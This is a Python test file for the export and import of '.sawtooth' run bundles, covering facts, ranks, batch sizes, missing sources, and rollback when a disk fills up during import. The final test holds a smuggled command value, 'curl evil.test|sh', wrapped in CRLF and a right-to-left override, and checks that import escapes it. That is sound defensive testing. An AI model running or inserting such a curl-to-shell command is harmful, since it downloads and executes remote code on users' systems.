"""Tests of exporting ``.sawtooth`` files from a data folder and importing them into another."""

from __future__ import annotations

import errno
import gzip
import time
import zipfile
from pathlib import Path

import msgspec
import pytest

from sawtooth.app.jobs.ingest_files import ingest_into_runs
from sawtooth.ingest.capture.marks import MarkWriter
from sawtooth.ingest.capture.packing import pack_run
from sawtooth.ingest.errors import NotFoundError, UsageError
from sawtooth.ingest.manifest import BatchTrial, Manifest, RecordingRef, UserFacts
from sawtooth.ingest.recording import ingest_file
from sawtooth.ingest.runs import bundle as of_bundles
from sawtooth.ingest.runs.bundle import export_runs, import_bundle, write_bundle
from sawtooth.ingest.runs.bundle_file import BundleManifest, BundleRecording, BundleRun, is_bundle
from sawtooth.ingest.runs.manifests import register_run
from sawtooth.ingest.runs.proposals import accept, list_changes, proposal_for
from sawtooth.ingest.schema import DataFolder
from tests.support import sound_trace
from tests.support.bundles import packed
from tests.support.paths import SAMPLES


def a_run(tmp_path: Path, *, keep_source: bool = True) -> tuple[DataFolder, Manifest]:
    folder, trace = DataFolder(tmp_path / "a").create(), tmp_path / "trace.json.gz"
    trace.write_bytes(sound_trace.PACKED)
    refs = [ingest_file(path, folder, keep_source=keep_source) for path in (trace, SAMPLES / "gpt" / "nvml.jsonl")]
    facts = UserFacts(step_time_ms=46.05, samples_per_step=16.0)
    return folder, register_run(
        folder, refs, "GPT", {"batch": "16"}, notes="a note", tags=["x"], facts=facts, command=["train.py", "-v"]
    )


def test_a_bundled_run_keeps_its_facts_and_id(tmp_path: Path) -> None:
    folder, run = a_run(tmp_path)
    target = tmp_path / "gpt.sawtooth"
    export_runs(folder, [run.id], target)
    assert is_bundle(target) and zipfile.ZipFile(target).namelist() == ["manifest.json", "sources/0001.gz", "sources/0002.gz"]
    other = DataFolder(tmp_path / "b")
    (made,) = import_bundle(target, other)
    assert msgspec.structs.replace(made, created_ns=0) == msgspec.structs.replace(run, created_ns=0)
    assert {r.source_name for r in made.recordings} == {"trace.json.gz", "nvml.jsonl"}
    assert list(other.uploads.iterdir()) == []
    (again,) = import_bundle(target, other)
    assert again.id == run.id


def test_a_bundle_is_ingested_like_any_other_file(tmp_path: Path) -> None:
    folder, run = a_run(tmp_path)
    target = tmp_path / "anything.bin"
    export_runs(folder, [run.id], target)
    other = DataFolder(tmp_path / "b").create()
    ingested = ingest_into_runs(other, [(target, "dropped.sawtooth")])
    assert [m.id for m in ingested.runs] == [run.id] and ingested.runs[0].facts.step_time_ms == 46.05
    assert list(other.derived.iterdir())
    (named,) = ingest_into_runs(other, [(target, "dropped.sawtooth")], name="mine").runs
    assert named.name == "mine" and other.read_manifest(run.id) == named


def test_two_runs_make_a_comparison_and_share_a_source_once(tmp_path: Path) -> None:
    folder, run = a_run(tmp_path)
    alone = register_run(folder, [r for r in run.recordings if r.kind == "telemetry"], "telemetry only")
    export_runs(folder, [run.id, alone.id], tmp_path / "c.sawtooth")
    assert len(zipfile.ZipFile(tmp_path / "c.sawtooth").namelist()) == 3
    assert {m.id for m in import_bundle(tmp_path / "c.sawtooth", DataFolder(tmp_path / "b"))} == {run.id, alone.id}


def test_a_recording_without_a_rank_is_not_compared_with_every_rank() -> None:
    ref = RecordingRef(id="a" * 16, kind="telemetry", source_name="nvml.jsonl")
    began = time.process_time()
    assert [of_bundles._rank(ref, BundleRecording("m", "nvml.jsonl", "telemetry")) for _ in range(10)] == [None] * 10
    assert time.process_time() - began < 0.5  # s; 16 million comparisons took longer.


@pytest.mark.parametrize(("rank", "kept"), [(1, 1), (0, 0), (-1, None), (2**40, None)])
def test_a_trace_without_a_rank_gets_the_rank_from_the_manifest(tmp_path: Path, rank: int, kept: int | None) -> None:
    folder, run = a_run(tmp_path)
    ranked = [msgspec.structs.replace(ref, rank=rank if ref.kind == "trace" else None) for ref in run.recordings]
    folder.write_manifest(msgspec.structs.replace(run, recordings=ranked))
    export_runs(folder, [run.id], tmp_path / "x.sawtooth")
    (ingested,) = import_bundle(tmp_path / "x.sawtooth", DataFolder(tmp_path / "b"))
    assert [ref.rank for ref in ingested.traces] == [kept]


def test_a_missing_source_is_named(tmp_path: Path) -> None:
    folder, run = a_run(tmp_path, keep_source=False)
    with pytest.raises(NotFoundError, match="--no-keep-source"):
        export_runs(folder, [run.id], tmp_path / "x.sawtooth")
    assert not (tmp_path / "x.sawtooth").exists()


def test_a_manifest_with_invalid_values_is_not_stored(tmp_path: Path) -> None:
    folder, run = a_run(tmp_path)
    with pytest.raises(UsageError, match="step_time_ms"):
        folder.write_manifest(msgspec.structs.replace(run, facts=UserFacts(step_time_ms=1e-300)))
    assert folder.read_manifest(run.id) == run


def test_a_name_with_a_slash_is_bundled_completely(tmp_path: Path) -> None:
    folder, run = a_run(tmp_path)
    folder.write_manifest(msgspec.structs.replace(run, name="sweep/lr 1/3"))
    export_runs(folder, [run.id], tmp_path / "x.sawtooth")
    assert import_bundle(tmp_path / "x.sawtooth", DataFolder(tmp_path / "b"))[0].name == "sweep/lr 1/3"


def test_a_loop_that_ended_before_its_first_sample_is_read_without_telemetry(tmp_path: Path) -> None:
    trace, empty = tmp_path / "trace.json.gz", tmp_path / "telemetry.jsonl"
    trace.write_bytes(sound_trace.PACKED)
    empty.write_text('{"meta":{"name":"none","driver":"580"}}\n')
    path = tmp_path / "x.sawtooth"
    run = BundleRun("r", [BundleRecording("", "trace.json.gz", "trace"), BundleRecording("", "telemetry.jsonl", "telemetry")])
    recordings = [msgspec.structs.replace(item, member=f"sources/000{i}.gz") for i, item in enumerate(run.recordings, 1)]
    manifest = msgspec.json.encode(BundleManifest([msgspec.structs.replace(run, recordings=recordings)]))
    packed(
        path,
        {
            "manifest.json": manifest,
            "sources/0001.gz": trace.read_bytes(),
            "sources/0002.gz": gzip.compress(empty.read_bytes()),
        },
    )
    (imported,) = import_bundle(path, DataFolder(tmp_path / "d"))
    assert [ref.kind for ref in imported.recordings] == ["trace"]


def test_manifest_and_sources_must_agree(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="different members"):
        write_bundle(tmp_path / "x.sawtooth", BundleManifest([BundleRun("r", [])]), {"sources/0001.gz": tmp_path})
    assert list(tmp_path.iterdir()) == []


def test_a_failed_import_adds_no_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The disk fills up between the manifests of two runs."""
    here, there = DataFolder(tmp_path / "here").create(), DataFolder(tmp_path / "there").create()
    runs = []
    for number in (1, 2):
        trace = tmp_path / f"{number}.json"
        trace.write_bytes(sound_trace.text(sound_trace.sound(sound_trace.sound_events(2 + number))))
        runs.append(register_run(here, [ingest_file(trace, here)]).id)
    export_runs(here, runs, tmp_path / "two.sawtooth")
    write, written = DataFolder.write_manifest, []

    def full(folder: DataFolder, manifest: Manifest) -> None:
        if written:
            raise OSError(errno.ENOSPC, "No space left on device")
        written.append(manifest)
        write(folder, manifest)

    monkeypatch.setattr(DataFolder, "write_manifest", full)
    with pytest.raises(OSError):
        import_bundle(tmp_path / "two.sawtooth", there)
    assert written and there.manifests() == []


def test_a_bundle_contains_batch_sizes(tmp_path: Path) -> None:
    folder, run = a_run(tmp_path)
    sizes = [BatchTrial(64, step_ms=10.0, low_ms=9.9, high_ms=10.2, optimizer_ms=1.0, memory_bytes=5e9), BatchTrial(128)]
    folder.write_manifest(msgspec.structs.replace(run, batches=sizes))
    export_runs(folder, [run.id], tmp_path / "x.sawtooth")
    other = DataFolder(tmp_path / "b")
    assert import_bundle(tmp_path / "x.sawtooth", other)[0].batches == sizes
    other.write_manifest(msgspec.structs.replace(other.read_manifest(run.id), batches=[]))
    import_bundle(tmp_path / "x.sawtooth", other)
    (difference,) = list_changes(other.read_manifest(run.id), proposal_for(other, run.id))
    assert (difference.before, difference.after) == ("", "64: 10 ms, 128: out of memory")
    assert accept(other, run.id).batches == sizes


def test_control_characters_in_a_command_are_escaped(tmp_path: Path) -> None:
    marks = tmp_path / "marks.jsonl"
    writer = MarkWriter(marks, monotonic_ns=iter(range(0, 10**10, 20_000_000)).__next__)
    for index in range(20):
        writer.mark(index)
    writer.close()
    about = {"name": "theirs", "notes": "", "facts": {}, "command": ["train.py", "x\r\ncurl evil.test|sh\u202e"]}
    pack_run(tmp_path / "x.sawtooth", about, [(marks, {"source_name": "marks.jsonl", "kind": "marks"})])
    (run,) = import_bundle(tmp_path / "x.sawtooth", DataFolder(tmp_path / "data"))
    assert run.command == run.recorded_command == ["train.py", "x\\r\\ncurl evil.test|sh\\u202e"]
